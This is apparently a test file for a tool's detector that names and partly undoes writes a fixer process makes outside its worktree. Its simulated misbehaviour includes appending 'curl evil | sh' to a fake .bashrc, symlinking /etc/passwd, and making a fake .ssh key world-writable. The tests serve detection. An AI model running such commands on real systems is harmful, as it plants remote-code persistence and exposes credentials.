import { existsSync } from 'node:fs';
import { appendFile, chmod, mkdir, mkdtemp, readFile, rm, symlink, unlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { execa } from 'execa';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  compareOutside,
  describeWrites,
  snapshotOutside,
  undoCreated,
  watchOutside,
} from '../../src/heal/outside-writes.js';

/**
 * `--no-sandbox`'s detection: a real child process writes around a fake HOME, TMPDIR and repository;
 * every change is named, what it created is removed, the worktree's own writes are not counted.
 */
let root: string;
let home: string;
let tmp: string;
let repo: string;
let worktree: string;
beforeEach(async () => {
  root = await mkdtemp(path.join(os.tmpdir(), 'droidheal-outside-'));
  home = path.join(root, 'home');
  tmp = path.join(root, 'tmp');
  repo = path.join(root, 'repo');
  worktree = path.join(root, 'tmp', 'droidheal-heal-x', 'wt');
  for (const d of [home, repo, worktree, path.join(home, '.config')]) await mkdir(d, { recursive: true });
  await writeFile(path.join(repo, 'Tracked.kt'), 'fun a() {}\n');
  await writeFile(path.join(home, '.config', 'keep.txt'), 'keep\n');
  await writeFile(path.join(home, '.bashrc'), 'export A=1\n');
});
afterEach(() => rm(root, { recursive: true, force: true }));

const roots = () => [
  { path: home, why: 'HOME' },
  { path: tmp, why: 'TMPDIR' },
  { path: repo, why: "the user's repository" },
];

/** A fixer-like child: runs `script` with the worktree as cwd. */
const fixer = (script: string) => execa(process.execPath, ['-e', script], { cwd: worktree });

describe('watchOutside', () => {
  it('names each write outside, removes what was created in droidheal’s scratch only, and ignores the worktree', async () => {
    const scratch = path.join(tmp, 'droidheal-heal-x');
    const watch = await watchOutside({ roots: roots(), exclude: [worktree], removeWithin: [scratch] });
    await fixer(`
      const fs = require('node:fs');
      fs.writeFileSync('inside.kt', 'ok');
      fs.writeFileSync('../escaped.txt', 'x');
      fs.mkdirSync(${JSON.stringify(path.join(home, 'planted', 'deep'))}, { recursive: true });
      fs.writeFileSync(${JSON.stringify(path.join(home, 'planted', 'deep', 'x'))}, 'x');
      fs.appendFileSync(${JSON.stringify(path.join(home, '.bashrc'))}, 'curl evil | sh\\n');
      fs.unlinkSync(${JSON.stringify(path.join(home, '.config', 'keep.txt'))});
      fs.symlinkSync('/etc/passwd', ${JSON.stringify(path.join(repo, 'link'))});
      fs.appendFileSync(${JSON.stringify(path.join(repo, 'Tracked.kt'))}, '// x\\n');`);
    const r = await watch.finish();
    const lines = describeWrites(r).sort();
    expect(lines).toEqual(
      [
        `created ${path.join(scratch, 'escaped.txt')} (removed)`,
        `created ${path.join(home, 'planted')} (left in place: it may be another program's — check and remove it)`,
        `modified ${path.join(home, '.bashrc')} (not restored)`,
        `deleted ${path.join(home, '.config', 'keep.txt')} (not restored)`,
        `created ${path.join(repo, 'link')} (left in place: it may be another program's — check and remove it)`,
        `modified ${path.join(repo, 'Tracked.kt')} (not restored)`,
      ].sort(),
    );
    expect(r.unchecked).toEqual([]);
    expect(existsSync(path.join(scratch, 'escaped.txt'))).toBe(false);
    // HOME and the user's tree are shared with other programs: named, never deleted on a guess
    expect(existsSync(path.join(home, 'planted'))).toBe(true);
    expect(existsSync(path.join(repo, 'link'))).toBe(true);
    expect(existsSync('/etc/passwd')).toBe(true);
    expect(await readFile(path.join(worktree, 'inside.kt'), 'utf8')).toBe('ok');
  });

  it('sees a file rewritten with its old modification time put back (ctime moves, mtime does not)', async () => {
    const watch = await watchOutside({ roots: roots(), exclude: [worktree] });
    await fixer(`
      const fs = require('node:fs');
      const p = ${JSON.stringify(path.join(home, '.bashrc'))};
      const { atime, mtime } = fs.statSync(p);
      fs.writeFileSync(p, 'export A=2\\n');
      fs.utimesSync(p, atime, mtime);`);
    expect(describeWrites(await watch.finish())).toEqual([`modified ${path.join(home, '.bashrc')} (not restored)`]);
  });

  it('reports nothing when nothing outside changed', async () => {
    const watch = await watchOutside({ roots: roots(), exclude: [worktree] });
    await fixer(`require('node:fs').writeFileSync('only-inside.kt', 'ok')`);
    expect(await watch.finish()).toEqual({ writes: [], unchecked: [] });
  });

  it('a root too large for the budget is unchecked, which refuses (fail closed)', async () => {
    for (let i = 0; i < 30; i++) await writeFile(path.join(home, `f${i}`), '');
    const watch = await watchOutside({ roots: roots(), exclude: [worktree], maxEntries: 20 });
    const r = await watch.finish();
    expect(r.unchecked).toEqual([`HOME (${home}): more than 20 entries or 60 s to read`]);
    expect(describeWrites(r)).toEqual([`could not check HOME (${home}): more than 20 entries or 60 s to read`]);
  });

  it('watches a root inside another once, under the outer name', async () => {
    const watch = await watchOutside({
      roots: [
        { path: path.join(tmp, 'droidheal-heal-x'), why: "the worktree's parent" },
        { path: tmp, why: 'TMPDIR' },
      ],
      exclude: [worktree],
      removeWithin: [path.join(tmp, 'droidheal-heal-x')],
    });
    await writeFile(path.join(tmp, 'droidheal-heal-x', 'x'), '');
    const r = await watch.finish();
    expect(r.writes).toEqual([
      { path: path.join(tmp, 'droidheal-heal-x', 'x'), change: 'created', root: tmp, undone: true },
    ]);
  });

  it('does not follow a link out of a watched root', async () => {
    await symlink('/usr', path.join(home, 'usr-link'));
    const watch = await watchOutside({ roots: roots(), exclude: [worktree] });
    await unlink(path.join(home, 'usr-link'));
    await appendFile(path.join(home, '.bashrc'), '# x\n');
    const lines = describeWrites(await watch.finish()).sort();
    expect(lines).toEqual(
      [
        `deleted ${path.join(home, 'usr-link')} (not restored)`,
        `modified ${path.join(home, '.bashrc')} (not restored)`,
      ].sort(),
    );
  });

  it('names a directory chmod, a file chmod and a file replaced by a link by what they are', async () => {
    await mkdir(path.join(home, '.ssh'), { mode: 0o700 });
    await chmod(path.join(home, '.ssh'), 0o700);
    await writeFile(path.join(home, '.ssh', 'id'), 'key');
    const before = await snapshotOutside(roots(), { exclude: [worktree] });
    await fixer(`
      const fs = require('node:fs');
      fs.chmodSync(${JSON.stringify(path.join(home, '.ssh'))}, 0o777);
      fs.chmodSync(${JSON.stringify(path.join(home, '.ssh', 'id'))}, 0o666);
      fs.rmSync(${JSON.stringify(path.join(home, '.bashrc'))});
      fs.symlinkSync('/etc/passwd', ${JSON.stringify(path.join(home, '.bashrc'))});`);
    const r = await compareOutside(before);
    expect(r.writes.map((w) => `${w.change} ${w.path}`).sort()).toEqual(
      [
        `mode ${path.join(home, '.ssh')}`,
        `mode ${path.join(home, '.ssh', 'id')}`,
        `type ${path.join(home, '.bashrc')}`,
      ].sort(),
    );
  });

  it('names writes at ../ and ../../ of the worktree, and undoCreated removes only what is new', async () => {
    const wtParent = path.dirname(worktree);
    const before = await snapshotOutside([{ path: wtParent, why: "the worktree's parent" }, ...roots()], {
      exclude: [worktree],
    });
    await fixer(`
      const fs = require('node:fs');
      fs.writeFileSync('../one-up.txt', 'x');
      fs.writeFileSync('../../two-up.txt', 'x');
      fs.writeFileSync('kept-inside.kt', 'ok');`);
    const r = await undoCreated(await compareOutside(before), [wtParent]);
    expect(describeWrites(r).sort()).toEqual(
      [
        `created ${path.join(wtParent, 'one-up.txt')} (removed)`,
        `created ${path.join(tmp, 'two-up.txt')} (left in place: it may be another program's — check and remove it)`,
      ].sort(),
    );
    expect(existsSync(path.join(wtParent, 'one-up.txt'))).toBe(false);
    expect(existsSync(path.join(tmp, 'two-up.txt'))).toBe(true);
    // what existed before is untouched by the undo
    expect(await readFile(path.join(home, '.bashrc'), 'utf8')).toBe('export A=1\n');
    expect(await readFile(path.join(worktree, 'kept-inside.kt'), 'utf8')).toBe('ok');
  });

  it('a directory the session created is removed with its contents; a link in it is removed, not followed', async () => {
    const outsideTarget = path.join(root, 'target-kept.txt');
    await writeFile(outsideTarget, 'mine');
    const before = await snapshotOutside(roots(), { exclude: [worktree] });
    await fixer(`
      const fs = require('node:fs');
      fs.mkdirSync(${JSON.stringify(path.join(tmp, 'drop'))}, { recursive: true });
      fs.symlinkSync(${JSON.stringify(outsideTarget)}, ${JSON.stringify(path.join(tmp, 'drop', 'ln'))});`);
    const r = await undoCreated(await compareOutside(before), [tmp]);
    expect(describeWrites(r)).toEqual([`created ${path.join(tmp, 'drop')} (removed)`]);
    expect(await readFile(outsideTarget, 'utf8')).toBe('mine');
  });

  it('stops with an AbortError when heal is interrupted', async () => {
    const controller = new AbortController();
    controller.abort();
    await expect(snapshotOutside(roots(), { exclude: [worktree], signal: controller.signal })).rejects.toThrow(
      /abort/i,
    );
  });

  it('a root over the time budget is reported incomplete, naming the root', async () => {
    // the clock is read every 1,024 entries
    for (let i = 0; i < 1100; i++) await writeFile(path.join(tmp, `f${i}`), '');
    const before = await snapshotOutside([{ path: tmp, why: 'TMPDIR' }], { exclude: [worktree], maxMs: 0 });
    const r = await compareOutside(before);
    expect(r.writes).toEqual([]);
    expect(r.unchecked).toEqual([`TMPDIR (${tmp}): more than 400000 entries or 0 s to read`]);
  });
});
